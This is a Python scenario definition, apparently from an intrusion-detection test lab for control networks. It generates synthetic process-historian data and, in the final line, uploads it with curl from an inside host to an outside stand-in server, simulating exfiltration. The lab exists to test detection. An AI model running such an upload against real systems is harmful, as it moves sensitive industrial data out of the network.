# SPDX-License-Identifier: Apache-2.0
"""Two megabytes of process history leave the control network."""
from scenario import CONTENT_S, Scenario

SCENARIO = Scenario('Historian file out of the control network', ('D16', ), 'high', allowed=('D12', 'D13'),
                    within_s=CONTENT_S, needs=('nginx', 'curl'), commitments=('C2', ))


def make(lab):
    lab.outside.serve_web()
    rows = ''.join(f'2026-10-01T{n // 3600 % 24:02}:{n // 60 % 60:02}:{n % 60:02},PT-{n % 40:03},{400 + n * 7 % 90}\n'
                   for n in range(70_000))
    path = lab.inside.file('history.csv', 'time,tag,value\n' + rows)
    lab.mark()
    lab.inside.curl('--upload-file', path, 'http://203.0.113.51/in/history', source='10.90.0.20')
